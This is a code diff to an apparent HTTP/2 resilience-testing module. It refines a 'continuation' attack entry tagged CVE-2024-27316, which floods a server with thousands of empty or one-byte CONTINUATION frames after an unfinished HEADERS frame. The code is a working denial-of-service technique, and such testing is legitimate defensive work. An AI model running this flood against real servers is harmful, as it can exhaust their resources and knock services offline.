@@ -10,11 +10,12 @@ import {
 } from "../wire/field-block.ts";
 import { Flag, type FrameBatch, FrameType, Setting } from "../wire/frames.ts";
 import { emptyMessage } from "../wire/messages.ts";
-import type { Attack, Peer } from "./attack.ts";
+import { type Attack, afterSettings, type Peer } from "./attack.ts";
 
 const { END_HEADERS, END_STREAM } = Flag;
 const request = requestBlock("Echo");
-const oneField = fieldBlock([["a", "b"]]);
+/** `:method: POST` of the static table, in one byte. */
+const indexedField = Buffer.from([0x83]);
 const frameBytes = 16_384;
 /** The dynamic table's newest entry. */
 const newestEntry = 62;
@@ -116,23 +117,20 @@ function thrashing(round: number): Buffer {
 export const headerBlocks: readonly Attack[] = [
   {
     name: "continuation",
-    sends: "CONTINUATION of one byte without end",
+    sends: "CONTINUATION of one byte or none, without end",
     known: "CVE-2024-27316",
+    ignoresPings: true,
     create: (peer) => {
       const id = peer.openStream();
-      return {
+      return afterSettings({
         begin: (batch) => batch.headers(id, request, 0),
         write(batch) {
           for (let index = 0; index < 4000; index++) {
-            batch.frame(
-              FrameType.CONTINUATION,
-              0,
-              id,
-              oneField.subarray(0, index % 5 === 0 ? 1 : 0),
-            );
+            const bytes = index % 5 === 0 ? 1 : 0;
+            batch.frame(FrameType.CONTINUATION, 0, id, indexedField.subarray(0, bytes));
           }
         },
-      };
+      });
     },
   },
   {
